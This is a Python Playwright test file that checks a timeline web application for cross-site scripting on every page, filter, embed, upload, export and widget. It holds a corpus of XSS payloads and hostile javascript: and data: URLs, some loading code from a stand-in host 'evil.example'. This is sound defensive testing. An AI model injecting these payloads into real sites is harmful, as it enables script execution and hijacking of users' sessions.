"""Hostile texts run nowhere: as texts, titles, names, URLs, ids and filters, on every page.

Each text would call the function `pwn`, open a dialog, or make a request to another host.
"""

from collections.abc import Callable
from contextlib import suppress
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Error

from timeline.dates import Day
from timeline.export import FORMATS
from timeline.records import Document, PublishedFrom, Source
from timeline.web import Settings
from timeline.web.settings import Access

Visits = Callable[..., Any]
Hosts = Callable[[str, str], str]

CORPUS = (
    "<script>pwn()</script>",
    "</script><script>pwn()</script>",
    "<script src=//evil.example/x.js></script>",
    '"><script>pwn()</script>',
    "'><img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()>",
    "<IMG SRC=x OnErRoR=pwn()>",
    "<img/src=x/onerror=pwn()>",
    '" onmouseover="pwn()" autofocus onfocus="pwn()" x="',
    "' onfocus='pwn()' autofocus tabindex='1",
    "` onfocus=pwn() autofocus `",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<math><mtext></p><img src=x onerror=pwn()></math>",
    "<details open ontoggle=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form action=javascript:pwn()><button autofocus>x</button></form>",
    "<input onfocus=pwn() autofocus>",
    "<video><source onerror=pwn()></video>",
    "<body onload=pwn()>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<textarea></textarea><img src=x onerror=pwn()>",
    "<title></title><img src=x onerror=pwn()>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--><img src=x onerror=pwn()>-->",
    "]]><script>pwn()</script>",
    "<?xml-stylesheet href='javascript:pwn()'?>",
    "<x xmlns='http://www.w3.org/1999/xhtml'><script>pwn()</script></x>",
    "{{ pwn() }}",
    "{% print(pwn()) %}",
    "${pwn()}",
    "#{pwn()}",
    "<%= pwn() %>",
    "javascript:pwn()",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\u202e<script>pwn()</script>\u202c",
    "\ufeff<script>pwn()</script>",
    "＜script＞pwn()＜/script＞",  # noqa: RUF001 - full-width brackets, which become HTML only if normalized
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
)

ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "javascript://example.org/%0Apwn()",
    "data:text/html,<script>opener.pwn()</script>",
    "vbscript:pwn()",
    'https://example.org/" onmouseover="pwn()',
    "https://example.org/'><script>pwn()</script>",
    "//evil.example/",
    "https://user:secret@example.org/<img src=x onerror=pwn()>",
)

SCHEMES = """all => all.map((element) => {
  const address = ["href", "action", "src"].map((name) => element.getAttribute(name)).find((value) => value !== null);
  return new URL(address, document.baseURI).protocol;
})"""
CANARY = "window.pwned = 0; window.pwn = () => { window.pwned += 1; };"


def articles() -> list[Document]:
    """Return a document for each hostile text and each hostile URL."""
    cases = [(words, f"https://example.org/{at}") for at, words in enumerate(CORPUS)]
    cases += [("of the harbour", address) for address in ADDRESSES]
    return [article(at, words, address) for at, (words, address) in enumerate(cases)]


def article(at: int, words: str, address: str) -> Document:
    source = Source(f"{at} {words}", words, words, Day(2019, 12, 21), PublishedFrom.GIVEN, address, words)
    text = (
        f"Ada Lindqvist resigned {words} on {at % 28 + 1} December 2019. "
        f"Rosa {words} Feld closed the mill {at} on Friday. The captain, {words}, met Bo {words} in 2015."
    )
    return Document(source, "default", "en", text)


@pytest.fixture
def watched(visit: Visits) -> Any:
    """A visit that records whether anything runs."""
    visited = visit()
    visited.page.add_init_script(CANARY)
    visited.page.route(
        "**/favicon.ico", lambda route: route.fulfill(status=204)
    )  # requested for files that are not pages
    visited.page.on("dialog", lambda dialog: (visited.console.append(dialog.message), dialog.dismiss()))
    return visited


def assert_nothing_ran(visited: Any, address: str) -> None:
    """Assert that nothing ran or was blocked, and that no other host was asked."""
    visited.page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert visited.page.evaluate("window.pwned") == 0
    assert [each for each in visited.console if "status of 4" not in each] == []
    assert visited.hosts <= {urlsplit(address).netloc}


def pages(address: str, page: Any) -> list[str]:
    """Return the URLs of all pages, including those of the first events and documents."""
    events = page.request.get(f"{address}/events?limit=500").json()["data"]
    documents = page.request.get(f"{address}/documents?limit=500").json()["data"]
    things = [f"/events/{event['id']}" for event in events[:40]]
    things += [f"/documents/{quote(document['id'], safe='')}" for document in documents]
    frames = [f"/embed?event={event['id']}" for event in events[:5]]
    return ["/", "/?limit=500", "/?sort=importance", "/docs", "/upload", "/embed?limit=500", *frames, *things]


def test_pages(serve: Callable[..., str], watched: Any) -> None:
    """Nothing runs on any page."""
    address = serve(*articles())

    for path in pages(address, watched.page):
        watched.to(f"{address}{path}")
        watched.page.evaluate("document.querySelectorAll('details').forEach((details) => { details.open = true; })")
        assert_nothing_ran(watched, address)


def test_links(serve: Callable[..., str], watched: Any) -> None:
    """No link on any page is a script."""
    address = serve(*articles())

    for path in pages(address, watched.page):
        links = watched.to(f"{address}{path}").locator("a[href], form[action], [src]")
        schemes = links.evaluate_all(SCHEMES)
        assert set(schemes) <= {"http:", "https:"}


FILTERS = ("q", "from", "to", "actor", "document", "status", "modality", "sort", "cursor", "part", "unknown")


def test_filters(serve: Callable[..., str], watched: Any) -> None:
    """Nothing runs in filters."""
    address = serve(*articles()[:3])

    for words in CORPUS:
        for names in (FILTERS, ("q", "actor", "document")):
            watched.page.goto(f"{address}/?" + "&".join(f"{name}={quote(words)}" for name in names))
            assert_nothing_ran(watched, address)


def test_embed_and_upload_parameters(serve: Callable[..., str], watched: Any) -> None:
    """Nothing runs in parameters of frames and uploads."""
    address = serve(*articles()[:3])

    for words in CORPUS:
        for path in ("/embed?lang=", "/embed?event=", "/embed?q=", "/upload?timeline="):
            watched.page.goto(f"{address}{path}{quote(words)}")
            assert_nothing_ran(watched, address)


def test_pasted_text(serve: Callable[..., str], watched: Any) -> None:
    """Nothing runs in pasted texts."""
    address = serve(settings=Settings(Access.OPEN))

    for words in CORPUS[::5]:
        watched.to(f"{address}/upload")
        watched.page.get_by_label("Text").fill(f"Ada {words} resigned on 3 May 2020. {words}")
        watched.page.get_by_label("Headline").fill(words)
        watched.page.get_by_role("button", name="Add").click()
        watched.page.locator("[data-state=kept], [data-state=refused]").first.wait_for()
        assert_nothing_ran(watched, address)


def test_timeline_name(serve: Callable[..., str], watched: Any) -> None:
    """Nothing runs in the name of a timeline."""
    address = serve(*articles()[:3])

    for words in CORPUS:
        watched.page.goto(f"{address}/timelines/{quote(words, safe='')}")
        assert_nothing_ran(watched, address)


def test_exports(serve: Callable[..., str], watched: Any) -> None:
    """Nothing runs in exports."""
    address = serve(*articles())

    for name in FORMATS:
        answer = watched.page.request.get(f"{address}/events.{name}")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "html" not in answer.headers["content-type"]
        with suppress(Error):  # Chromium downloads what it cannot show
            watched.page.goto(f"{address}/events.{name}")
        assert_nothing_ran(watched, address)


def test_widget(serve: Callable[..., str], host: Hosts, watched: Any) -> None:
    """Nothing runs in the widget on another site."""
    address = serve(*articles())
    carrier = (
        '<!doctype html><html lang="en"><title>A page of others</title><body><h1>A page of others</h1>'
        f'<event-timeline src="{address}/events?limit=500"></event-timeline>'
        f'<script type="module" src="{address}/widget.js"></script></body></html>'
    )
    page = watched.to(host(carrier, address))
    page.locator("event-timeline ol[aria-busy=false]").wait_for(state="attached")

    assert page.locator("event-timeline li").count() > 10
    links = page.locator("event-timeline a[href]").evaluate_all("all => all.map(({ protocol }) => protocol)")
    assert set(links) <= {"http:", "https:"}
    assert page.evaluate("window.pwned") == 0
    assert watched.console == []
